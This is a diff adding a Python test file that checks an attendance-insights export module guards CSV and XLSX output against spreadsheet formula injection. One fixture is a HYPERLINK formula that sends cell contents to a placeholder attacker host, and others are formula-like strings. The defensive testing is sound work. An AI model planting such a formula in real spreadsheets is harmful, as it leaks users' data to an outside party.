@@ -1,0 +1,77 @@
+"""CSV and XLSX exports of insights tables: faithful, typed and never a formula."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import math
+
+import pytest
+from openpyxl import load_workbook
+
+from attendwise.insights.exports import Table, filename, to_csv, to_xlsx
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+
+
+def _table() -> Table:
+    return Table(
+        title="Schools: attendance [this term]",
+        columns=["School", "Attendance %", "Change", "As of"],
+        rows=[
+            [HOSTILE, 93.5, -1.25, dt.date(2026, 11, 20)],
+            ["+44 Academy", 91, None, dt.date(2026, 11, 20)],
+            ["@SUM(A1:A2)", math.nan, 0.5, None],
+            ["Hill\tPrimary", 88.0, 2, None],
+        ],
+        notes=["Groups of fewer than 5 pupils are not shown."],
+    )
+
+
+def test_xlsx_stores_a_hostile_cell_as_text_not_a_formula() -> None:
+    book = load_workbook(io.BytesIO(to_xlsx(_table())))
+    sheet = book.active
+    assert sheet is not None
+    cell = sheet["A2"]
+    assert cell.data_type == "s"
+    assert cell.value == HOSTILE
+    assert cell.quotePrefix
+    assert sheet["A3"].data_type == "s"
+    assert sheet["A3"].value == "+44 Academy"
+    assert sheet["A4"].value == "@SUM(A1:A2)"
+    assert sheet["A4"].data_type == "s"
+
+
+def test_xlsx_keeps_numbers_and_dates_typed_and_headings_bold() -> None:
+    sheet = load_workbook(io.BytesIO(to_xlsx(_table()))).active
+    assert sheet is not None
+    assert [c.value for c in sheet[1]] == ["School", "Attendance %", "Change", "As of"]
+    assert sheet["A1"].font.bold
+    assert sheet["B2"].value == 93.5
+    assert sheet["C2"].value == -1.25
+    assert sheet["D2"].value == dt.datetime(2026, 11, 20)
+    assert sheet["B4"].value is None  # a figure that cannot be computed is left empty
+    assert sheet["A7"].value == "Groups of fewer than 5 pupils are not shown."
+    assert sheet.title == "Schools  attendance  this term"
+
+
+def test_csv_prefixes_formula_like_text_and_keeps_negative_numbers() -> None:
+    raw = to_csv(_table())
+    assert raw.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert rows[0] == ["School", "Attendance %", "Change", "As of"]
+    assert rows[1] == ["'" + HOSTILE, "93.5", "-1.25", "2026-11-20"]
+    assert rows[2][0] == "'+44 Academy"
+    assert rows[3][:2] == ["'@SUM(A1:A2)", ""]
+    assert rows[4][0] == "Hill\tPrimary"
+
+
+def test_a_ragged_row_is_refused_naming_the_row() -> None:
+    with pytest.raises(ValueError, match=r"row 2 has 1 values for 2 columns"):
+        Table("T", ["a", "b"], [[1, 2], [3]])
+
+
+def test_download_names_are_plain() -> None:
+    assert filename("What works: Stage 2 / letters", "xlsx") == "what-works-stage-2-letters.xlsx"
+    assert filename("", "csv") == "table.csv"
